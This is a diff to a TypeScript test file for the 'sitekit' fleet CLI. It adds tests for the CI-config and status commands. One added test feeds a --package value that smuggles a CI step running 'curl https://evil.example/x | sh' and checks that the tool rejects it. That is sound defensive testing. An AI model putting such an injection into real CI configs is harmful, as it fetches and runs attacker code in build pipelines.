@@ -15,7 +15,7 @@ import type { CliIO } from '../../../main/cli/types';
 import { runtimeFor, type Runtime } from '../../../main/runtime/runtime';
 import { createServices } from '../../../main/services/index';
 import { parseSiteYaml, stringifySite } from '../../../main/core/site/yaml';
-import { recordStickRun } from '../../../main/core/site/records';
+import { recordAcceptance, recordStickRun } from '../../../main/core/site/records';
 import type { FleetStatus } from '../../../main/core/fleet/status';
 import { tempDir } from '../../helpers/temp';
 import { planCsv, planStores, planXlsx } from '../services/fleet/make-plan';
@@ -237,6 +237,14 @@ describe('sitekit fleet ci', () => {
     expect(all.stdout.match(/^called: --no-install sitekit lint sites\/store-\d{4} --format github$/gm)).toHaveLength(STORES);
   }, 300_000);
 
+  it('refuses a --package that would add a step to the job (a newline and a run: line), writing nothing', async () => {
+    const spec = 'sitekit@0.1.0\n      - name: pwn\n        run: curl https://evil.example/x | sh';
+    const r = await cli('fleet', 'ci', '--repo', 'repo', '--gitlab', '--package', spec);
+    expect(r.code).toBe(2);
+    expect(r.err).toMatch(/cannot go into the CI job: it contains whitespace or a control character/);
+    await expect(stat(join(dir.path, 'repo/.gitlab-ci.yml'))).rejects.toMatchObject({ code: 'ENOENT' });
+  });
+
   it('writes a GitLab CI config whose job produces a valid Code Quality report', async () => {
     const r = await cli('fleet', 'ci', '--repo', 'repo', '--gitlab', '--package', 'https://example.invalid/sitekit-0.1.0.tgz');
     expect(r.code, r.err).toBe(0);
@@ -291,6 +299,18 @@ describe('sitekit fleet status', () => {
     const stick = recordStickRun(site.value, { at: '2026-12-02T10:00:00.000Z', target: '/dev/sdb', imageSha256: 'ab'.repeat(32), hosts: ['esx01', 'esx02'], verified: true });
     await writeFile(file, stringifySite(stick, text));
     git(repo, 'commit', '-q', '-am', 'store-0007: stick written');
+    // store-0008: a stick, and every host accepted on site in its latest run (one host failed an earlier run).
+    const file8 = join(repo, 'sites/store-0008/site.yaml');
+    const text8 = await readFile(file8, 'utf8');
+    const site8 = parseSiteYaml(text8);
+    if (!site8.ok) throw new Error(site8.error.message);
+    const run = (at: string, verdicts: Record<string, 'accepted' | 'differences'>) =>
+      site8.value.spec.hosts.map((h) => ({ at, run: at, host: h.name, address: h.management.ip ?? '', port: 443, user: 'root', verdict: verdicts[h.name] ?? 'accepted', differences: [] }));
+    let accepted = recordStickRun(site8.value, { at: '2026-12-02T10:00:00.000Z', target: '/dev/sdc', imageSha256: 'cd'.repeat(32), hosts: [], verified: true });
+    accepted = recordAcceptance(accepted, run('2026-12-03T09:00:00.000Z', { [site8.value.spec.hosts[0]!.name]: 'differences' }));
+    accepted = recordAcceptance(accepted, run('2026-12-03T09:20:00.000Z', {}));
+    await writeFile(file8, stringifySite(accepted, text8));
+    git(repo, 'commit', '-q', '-am', 'store-0008: accepted on site');
     // An uncommitted edit in store-0010.
     const k = join(repo, 'sites/store-0010/base/time.yaml');
     await writeFile(k, (await readFile(k, 'utf8')) + '# edited\n');
@@ -303,10 +323,13 @@ describe('sitekit fleet status', () => {
     expect(row('store-0007')).toMatchObject({ stage: 'stick-written', committed: true, pushed: false, sticks: 1, reports: 0, manifestsUpToDate: true, lint: { errors: 0, warnings: 0 } });
     expect(row('store-0001')).toMatchObject({ stage: 'committed', committed: true, pushed: true, sticks: 0, manifestsUpToDate: true });
     expect(row('store-0010')).toMatchObject({ stage: 'not-started', committed: false, pushed: false });
-    expect(s.counts).toEqual({ 'not-started': 1, committed: STORES - 2, 'stick-written': 1, done: 0 });
+    expect(row('store-0008')).toMatchObject({ stage: 'accepted', committed: true, sticks: 1, accepted: true, reports: 0 });
+    expect(row('store-0007')!.accepted).toBe(false);
+    expect(s.counts).toEqual({ 'not-started': 1, committed: STORES - 3, 'stick-written': 1, accepted: 1, done: 0 });
 
     const table = await cli('fleet', 'status', '--repo', 'repo');
-    expect(table.out).toMatch(/^store-0007 +Stick written +up to date +0\/0 +yes +no +1 +—$/m);
-    expect(table.out).toContain(`${STORES} site(s) on main at ${s.head?.slice(0, 12)}: 1 not started, ${STORES - 2} committed, 1 stick written, 0 done.`);
+    expect(table.out).toMatch(/^store-0007 +Stick written +up to date +0\/0 +yes +no +1 +no +—$/m);
+    expect(table.out).toMatch(/^store-0008 +Accepted on site +up to date +0\/0 +yes +no +1 +yes +—$/m);
+    expect(table.out).toContain(`${STORES} site(s) on main at ${s.head?.slice(0, 12)}: 1 not started, ${STORES - 3} committed, 1 stick written, 1 accepted on site, 0 done.`);
   });
 });
